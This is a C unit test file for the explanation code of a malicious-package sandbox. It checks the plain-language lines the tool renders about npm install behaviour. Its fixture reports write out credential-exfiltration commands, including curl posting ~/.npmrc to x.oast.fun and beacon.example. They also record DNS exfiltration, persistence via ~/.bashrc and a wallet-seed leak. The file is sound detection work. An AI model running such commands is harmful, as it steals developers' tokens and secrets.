/* Explanations name the evidence behind a feature. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <jansson.h>

#include "explain/explain.h"
#include "features/features.h"

static const char REPORT[] =
	"{\"schema\":\"snare.report/1\",\"package\":{\"name\":\"evil\",\"version\":\"1.0.0\"},"
	"\"environment\":{\"home\":\"/home/alex\",\"user\":\"alex\",\"hostname\":\"h\"},"
	"\"phases\":[{\"name\":\"install\",\"status\":\"ok\","
	"\"commands\":[{\"path\":\"/usr/bin/curl\",\"argv\":[\"curl\",\"-d\",\"@/home/alex/.npmrc\",\"x.oast.fun\"],\"result\":0}],"
	"\"files\":[{\"path\":\"/home/alex/.npmrc\",\"flags\":[\"read\"],\"failed\":[]},"
	"{\"path\":\"/home/alex/.bashrc\",\"flags\":[\"write\"],\"failed\":[]}],"
	"\"dns\":[{\"hostname\":\"x.oast.fun\",\"types\":[\"A\"]}],"
	"\"sockets\":[{\"syscall\":\"connect\",\"address\":\"198.18.0.1\",\"port\":443,\"hostnames\":[\"x.oast.fun\"]}],"
	"\"sent\":[{\"hostname\":\"x.oast.fun\",\"address\":\"198.18.0.1\",\"port\":443,\"size\":120,\"kind\":\"tls\"}],"
	"\"canary_hits\":[{\"canary\":\"npm_token\",\"where\":\"sent\",\"encoding\":\"base64\",\"hostname\":\"x.oast.fun\",\"port\":443}],"
	"\"signals\":[],\"denied\":[],\"timeline\":[]},"
	"{\"name\":\"execute\",\"status\":\"ok\",\"commands\":[],\"files\":[],\"dns\":[],\"sockets\":[],\"sent\":[],"
	"\"canary_hits\":[{\"canary\":\"wallet_seed\",\"where\":\"sent\",\"encoding\":\"plain\",\"hostname\":\"rpc.w.test\",\"port\":80,"
	"\"call\":\"Wallet.fromSecret()\"}],\"signals\":[],\"denied\":[],\"timeline\":[]}]}";

static json_t *report;

static int setup(void **state)
{
	json_error_t je;
	(void)state;
	report = json_loads(REPORT, 0, &je);
	return report ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	json_decref(report);
	return 0;
}

static void check(const char *feature, const char *want)
{
	char *got = explain_feature(report, feature, 1);
	assert_string_equal(got, want);
	free(got);
}

static void test_canary(void **state)
{
	(void)state;
	check("install.canary_cred",
	      "leaks 1 planted credential: npm_token (base64) to x.oast.fun:443 [install]");
	/* the execute phase names the call that did it */
	check("execute.canary_wallet", "leaks 1 planted wallet secret: wallet_seed (plain) to "
				       "rpc.w.test:80 (execute: Wallet.fromSecret()) [execute]");
}

static void test_reads_then_contacts(void **state)
{
	(void)state;
	check("install.net_after_read",
	      "reads secrets, then uses the network: ~/.npmrc, then x.oast.fun:443 [install]");
	check("install.read_cred", "reads 1 credential file: ~/.npmrc [install]");
}

static void test_writes_and_dns(void **state)
{
	(void)state;
	check("install.write_persist",
	      "writes a file that runs at login or on a schedule: ~/.bashrc [install]");
	check("install.dns_service",
	      "looks up 1 OAST, webhook, paste or tunnel name: x.oast.fun [install]");
	check("install.conn_count", "opens 1 network connection: x.oast.fun:443 [install]");
	check("install.conn_hosts", "connects to 1 host: x.oast.fun:443 [install]");
}

static void test_baseline(void **state)
{
	(void)state;
	char *got = explain_feature(report, "n_commands", 1);
	assert_string_equal(got, "runs 1 command: curl");
	free(got);
}

static void test_verdict_direction(void **state)
{
	size_t n = features_count();
	float *x = calloc(n, sizeof(float)), *c = calloc(n + 1, sizeof(float));
	(void)state;
	c[features_index("install.canary_cred")] = 3.0f;
	x[features_index("install.canary_cred")] = 1;
	x[features_index("install.dns_service")] = 1;
	x[features_index("n_commands")] = 1;
	c[features_index("install.dns_service")] = 1.0f;
	c[features_index("n_commands")] = -0.5f;
	json_t *v = explain_verdict(report, x, c, 0.98f, 0.5, 5);
	assert_string_equal(json_string_value(json_object_get(v, "label")), "malicious");
	json_t *ex = json_object_get(v, "explanations");
	assert_int_equal(json_array_size(ex), 2); /* only contributions toward the verdict */
	assert_string_equal(json_string_value(json_object_get(json_array_get(ex, 0), "feature")),
			    "install.canary_cred");
	json_decref(v);
	free(x);
	free(c);
}

/* Reports written with ' for ". */
static json_t *load(const char *text)
{
	char *s = strdup(text);
	json_error_t je;
	json_t *r;

	for (char *p = s; *p; p++)
		if (*p == '\'')
			*p = '"';
	r = json_loads(s, 0, &je);
	free(s);
	assert_non_null(r);
	return r;
}

static void summary_is(const char *text, bool malicious, const char *want)
{
	json_t *r = load(text);
	char *got = explain_summary(r, malicious);

	if (want) {
		assert_non_null(got);
		assert_string_equal(got, want);
	} else {
		assert_null(got);
	}
	free(got);
	json_decref(r);
}

#define HEAD                                                                                       \
	"{'schema':'snare.report/1','package':{'name':'evil','version':'1.0.0'},"                  \
	"'environment':{'home':'/home/alex','user':'alex','hostname':'alex-xps'},"                 \
	"'canaries':[{'name':'npm_token','where':'~/.npmrc, NPM_TOKEN','value':'npm_abcdefgh'}],"

/* The rows about what leaves and where it goes. */
static void test_leak_rows(void **state)
{
	(void)state;
	check("install.exfil_chain",
	      "leaks secrets or identifying data: sends npm_token (base64) to x.oast.fun:443 (an "
	      "OAST, webhook or paste service) [install]");
	check("install.dest_service",
	      "contacts 1 OAST, webhook, paste or tunnel host: x.oast.fun [install]");
}

/* A malicious verdict leads with what was taken and where it went. */
static void test_summary_chain(void **state)
{
	(void)state;
	summary_is(
		HEAD
		"'phases':[{'name':'install','status':'ok',"
		"'steps':[{'package':'evil','script':'postinstall','command':'node lib/postinstall.js','target':true}],"
		"'files':[{'path':'/home/alex/.npmrc','flags':['read'],'failed':[]}],"
		"'sent':[{'hostname':'x.oast.fun','port':443,'pid':5,'package':'evil','script':'postinstall'}],"
		"'canary_hits':[{'canary':'npm_token','where':'sent','encoding':'base64','hostname':'x.oast.fun','port':443,'pid':5}]}]}",
		true,
		"reads ~/.npmrc, then sends its npm_token (base64) to x.oast.fun:443 (an OAST, "
		"webhook or paste service) [install, postinstall.js]");
	/* identity in DNS names, to a host unrelated to the package; no step
	 * file, no "reads" when the report names no source */
	summary_is(
		HEAD
		"'phases':[{'name':'import','status':'ok',"
		"'steps':[{'package':'evil','script':'import','command':'node index.js','target':true}],"
		"'dns':[{'hostname':'616c65782d787073.7.d.exfil.test','pid':7,'package':'evil','script':'import'}]}]}",
		true,
		"sends the host name (hex) in DNS names under d.exfil.test [import, index.js]");
	/* the same to the package's own homepage is no chain: today's order */
	summary_is(
		HEAD
		"'static':{'meta_hosts':['exfil.test']},'phases':[{'name':'import','status':'ok',"
		"'dns':[{'hostname':'616c65782d787073.7.d.exfil.test','package':'evil'}]}]}",
		true, NULL);
	/* a dependency's leak is not the package's chain */
	summary_is(
		HEAD
		"'phases':[{'name':'install','status':'ok',"
		"'steps':[{'package':'dep','script':'postinstall','command':'node x.js','target':false}],"
		"'sent':[{'hostname':'x.oast.fun','port':443,'pid':5,'package':'dep','script':'postinstall',"
		"'data_base64':'YWxleC14cHM='}]}]}",
		true, NULL);
}

/* A benign verdict with network activity says why it is benign. */
static void test_summary_benign(void **state)
{
	(void)state;
	summary_is(
		HEAD
		"'static':{'meta_hosts':['github.com']},'phases':[{'name':'install','status':'ok',"
		"'steps':[{'package':'esbuild','script':'postinstall','command':'node install.js','target':false},"
		"{'package':'evil','script':'install','command':'node dl.js','target':true}],"
		"'files':[{'path':'/home/alex/projects/app/node_modules/evil/bin/tool','flags':['write','create','chmod'],'failed':[]}],"
		"'dns':[{'hostname':'registry.npmjs.org','pid':3,'package':'esbuild','script':'postinstall'}],"
		"'sent':[{'hostname':'github.com','port':443,'pid':9,'package':'evil','script':'install',"
		"'requests':[{'method':'GET','target':'/o/r/releases/download/v1/tool'}]}]}]}",
		false,
		"downloads a binary from github.com, related to the package's homepage or "
		"repository; nothing identifying sent; a dependency (esbuild) runs its postinstall "
		"'node install.js', which contacts registry.npmjs.org (not the package's own code)");
	/* the row's own sentence */
	json_t *r = load(
		HEAD
		"'phases':[{'name':'install','status':'ok',"
		"'steps':[{'package':'esbuild','script':'postinstall','command':'node install.js','target':false}],"
		"'dns':[{'hostname':'registry.npmjs.org','pid':3,'package':'esbuild','script':'postinstall'}]}]}");
	char *got = explain_feature(r, "dep_install_net", 1);
	assert_string_equal(got, "a dependency's install step uses the network, not the package's "
				 "own code: a dependency (esbuild) runs its postinstall 'node "
				 "install.js', which contacts registry.npmjs.org");
	free(got);
	json_decref(r);
	summary_is(
		HEAD
		"'phases':[{'name':'execute','status':'ok',"
		"'sockets':[{'syscall':'connect','family':'ipv4','address':'104.16.0.1','port':443,'hostnames':['registry.npmjs.org'],'package':'evil'}]}]}",
		false,
		"contacts registry.npmjs.org, a well-known package or binary host; nothing identifying sent");
	/* nothing notable: no line */
	summary_is(HEAD "'phases':[{'name':'execute','status':'ok','sockets':["
			"{'syscall':'connect','family':'unix','path':'/var/run/nscd/socket'}]}]}",
		   false, NULL);
}

/* The verdict carries the line. */
static void test_verdict_summary(void **state)
{
	size_t n = features_count();
	float *x = calloc(n, sizeof(float)), *c = calloc(n + 1, sizeof(float));
	json_t *v;
	(void)state;
	x[features_index("install.canary_cred")] = 1;
	c[features_index("install.canary_cred")] = 3.0f;
	v = explain_verdict(report, x, c, 0.98f, 0.5, 5);
	assert_string_equal(json_string_value(json_object_get(v, "summary")),
			    "sends npm_token (base64) to x.oast.fun:443 (an OAST, webhook or paste "
			    "service) [install]");
	json_decref(v);
	free(x);
	free(c);
}

/* ---- the sentences of features.def, for people ------------------------- */

/* Whether |text| holds |word| as a word of its own (not inside another:
 * "eval" is a word of "calls eval", not of "evaluates"). */
static bool has_word(const char *text, const char *word)
{
	size_t n = strlen(word);

	for (const char *p = strstr(text, word); p; p = strstr(p + 1, word)) {
		bool before = p == text || !(p[-1] == '_' || (p[-1] >= 'a' && p[-1] <= 'z'));
		bool after = !(p[n] == '_' || (p[n] >= 'a' && p[n] <= 'z'));
		if (before && after)
			return true;
	}
	return false;
}

/* Every row the model uses has a phrase of its own, rendered for any value
 * with its placeholders filled in: no row name (snake_case, or with its
 * scope), no "name = value", no template left. */
static void test_every_used_row_has_a_phrase(void **state)
{
	static const float values[] = {0, 1, 2, 1234567};
	(void)state;
	for (size_t i = 0; i < features_count(); i++) {
		const struct feature_info *fi = features_info(i);

		if (fi->model != FEATURE_USED)
			continue;
		if (!*fi->sentence)
			fail_msg("%s: no phrase in features.def", features_name(i));
		for (size_t v = 0; v < sizeof(values) / sizeof(values[0]); v++) {
			char *got = explain_sentence(i, values[v]);
			char *full = explain_feature(report, features_name(i), values[v]);

			/* a row named by a plain word ("eval", "kill") may say it */
			if (!*got || (strchr(fi->name, '_') && has_word(got, fi->name)) ||
			    strchr(got, '=') || strpbrk(got, "{}[]|%"))
				fail_msg("%s = %g: phrase '%s'", features_name(i),
					 (double)values[v], got);
			if (strncmp(full, got, strlen(got)) != 0 ||
			    has_word(full, features_name(i)))
				fail_msg("%s: explanation '%s'", features_name(i), full);
			free(got);
			free(full);
		}
	}
}

/* The placeholders: counts with separators, plurals, sizes, durations. */
static void test_phrase_values(void **state)
{
	char *got;
	(void)state;
	got = explain_sentence((size_t)features_index("any.https_requests"), 4);
	assert_string_equal(got, "makes 4 HTTPS requests");
	free(got);
	got = explain_sentence((size_t)features_index("any.https_requests"), 1);
	assert_string_equal(got, "makes 1 HTTPS request");
	free(got);
	got = explain_sentence((size_t)features_index("any.sent_bytes"), 1536);
	assert_string_equal(got, "sends 1.5 KiB");
	free(got);
	got = explain_sentence((size_t)features_index("static.code_kb"), 20480);
	assert_string_equal(got, "has 20 MiB of code");
	free(got);
	got = explain_sentence((size_t)features_index("static.max_line"), 1234567);
	assert_string_equal(got, "has a line of 1,234,567 characters");
	free(got);
	got = explain_sentence((size_t)features_index("any.t_first_net"), 2400);
	assert_string_equal(got, "goes to the network 2.4 s after the phase starts");
	free(got);
	got = explain_sentence((size_t)features_index("static.max_entropy"), 5.8329f);
	assert_string_equal(got, "holds a string of entropy 5.8 bits per character");
	free(got);
	got = explain_sentence((size_t)features_index("any.exec_after_write"), 3);
	assert_string_equal(got, "runs 3 files right after writing them (download and run)");
	free(got);
}

static void test_numbers(void **state)
{
	char buf[64];
	(void)state;
	explain_count(buf, sizeof(buf), 0);
	assert_string_equal(buf, "0");
	explain_count(buf, sizeof(buf), 999);
	assert_string_equal(buf, "999");
	explain_count(buf, sizeof(buf), 1000);
	assert_string_equal(buf, "1,000");
	explain_count(buf, sizeof(buf), -1234567);
	assert_string_equal(buf, "-1,234,567");
	explain_count(buf, sizeof(buf), 12345.25);
	assert_string_equal(buf, "12,345.2");
	explain_count(buf, 4, 123456); /* cut, still terminated */
	assert_string_equal(buf, "123");
	explain_bytes(buf, sizeof(buf), 1);
	assert_string_equal(buf, "1 byte");
	explain_bytes(buf, sizeof(buf), 1023);
	assert_string_equal(buf, "1,023 bytes");
	explain_bytes(buf, sizeof(buf), 1024);
	assert_string_equal(buf, "1.0 KiB");
	explain_bytes(buf, sizeof(buf), 300 * 1024);
	assert_string_equal(buf, "300 KiB");
	explain_bytes(buf, sizeof(buf), 5.5 * 1024 * 1024);
	assert_string_equal(buf, "5.5 MiB");
	explain_probability(buf, sizeof(buf), 0.97);
	assert_string_equal(buf, "0.970");
	explain_probability(buf, sizeof(buf), 0.99973);
	assert_string_equal(buf, "0.9997");
	explain_probability(buf, sizeof(buf), 0.999996);
	assert_string_equal(buf, ">0.9999");
	explain_probability(buf, sizeof(buf), 0.00002);
	assert_string_equal(buf, "<0.0001");
	explain_probability(buf, sizeof(buf), 0.0004);
	assert_string_equal(buf, "0.0004");
}

/* A phase with a Unix-socket connect, netlink, loopback, a long command
 * line and a big capture, as the lines a person reads. */
static const char SOCKETS[] =
	"{'schema':'snare.report/1','package':{'name':'evil','version':'1.0.0'},"
	"'environment':{'home':'/home/alex','user':'alex','hostname':'h'},"
	"'phases':[{'name':'install','status':'ok',"
	"'commands':[{'path':'/bin/sh','argv':['sh','-c','curl -s https://beacon.example/collect "
	"-d @/home/alex/.npmrc -H x-token:0123456789abcdef'],'result':0},"
	"{'path':'/usr/bin/whoami','argv':['whoami'],'result':0}],"
	"'sockets':["
	"{'syscall':'connect','family':'unix','path':'/var/run/nscd/socket','result':'ENOENT'},"
	"{'syscall':'socket','family':'netlink','protocol':'raw'},"
	"{'syscall':'bind','family':'netlink'},"
	"{'syscall':'connect','family':'unix','path':'/var/run/docker.sock','result':0},"
	"{'syscall':'connect','family':'ipv4','address':'198.18.0.1','port':80,"
	"'hostnames':['beacon.example']},"
	"{'syscall':'connect','family':'ipv4','address':'127.0.0.1','port':8022,'hostnames':[],"
	"'result':'ECONNREFUSED'}],"
	"'dns':[{'hostname':'registry.npmjs.org','types':['A']},"
	"{'hostname':'x.oast.fun','types':['TXT']}],"
	"'sent':[{'hostname':'beacon.example','address':'198.18.0.1','port':80,'size':1234567,"
	"'kind':'http','http':{'method':'POST','target':'/collect'}}]}]}";

static void lines_are(const json_t *r, const char *feature, float value, const char *want)
{
	char *got = explain_feature(r, feature, value);
	assert_string_equal(got, want);
	free(got);
}

static void test_rendered_lines(void **state)
{
	json_t *r = load(SOCKETS);
	(void)state;
	/* the Unix socket by its path, not beacon.example:80; glibc's own
	 * nscd socket and netlink are not listed */
	lines_are(r, "install.conn_unix", 1,
		  "connects to 1 Unix socket: /var/run/docker.sock [install]");
	/* connects over IP: loopback says so, a failure too */
	lines_are(r, "install.conn_count", 2,
		  "opens 2 network connections: beacon.example:80, 127.0.0.1:8022 (this "
		  "machine) (fails: ECONNREFUSED) [install]");
	lines_are(r, "install.conn_nonstd_port", 1,
		  "connects 1 time to ports other than 80 and 443: 127.0.0.1:8022 (this "
		  "machine) (fails: ECONNREFUSED) [install]");
	/* a long command line cut at 60 characters, with an ellipsis */
	lines_are(r, "install.cmd_total", 2,
		  "runs 2 commands: 'sh -c curl -s https://beacon.example/collect -d "
		  "@/home/alex\xe2\x80\xa6', 'whoami' [install]");
	/* only the commands of the row's class */
	lines_are(r, "install.cmd_recon", 1,
		  "runs 1 recon command (whoami, uname, id...): 'whoami' [install]");
	/* only the names of the row */
	lines_are(r, "install.dns_txt", 1, "asks for 1 TXT record: x.oast.fun [install]");
	lines_are(r, "install.dns_count", 2,
		  "looks up 2 names: registry.npmjs.org, x.oast.fun [install]");
	/* a byte count and a count */
	lines_are(r, "install.sent_bytes", 1234567,
		  "sends 1.2 MiB: 1.2 MiB to beacon.example:80 (POST /collect) [install]");
	lines_are(r, "install.http_post", 1,
		  "makes 1 HTTP POST request: 1.2 MiB to beacon.example:80 (POST /collect) "
		  "[install]");
	lines_are(r, "install.https_requests", 4,
		  "makes 4 HTTPS requests: 1.2 MiB to beacon.example:80 (POST /collect) "
		  "[install]");
	json_decref(r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_canary),
		cmocka_unit_test(test_reads_then_contacts),
		cmocka_unit_test(test_writes_and_dns),
		cmocka_unit_test(test_baseline),
		cmocka_unit_test(test_verdict_direction),
		cmocka_unit_test(test_leak_rows),
		cmocka_unit_test(test_summary_chain),
		cmocka_unit_test(test_summary_benign),
		cmocka_unit_test(test_verdict_summary),
		cmocka_unit_test(test_every_used_row_has_a_phrase),
		cmocka_unit_test(test_phrase_values),
		cmocka_unit_test(test_numbers),
		cmocka_unit_test(test_rendered_lines),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
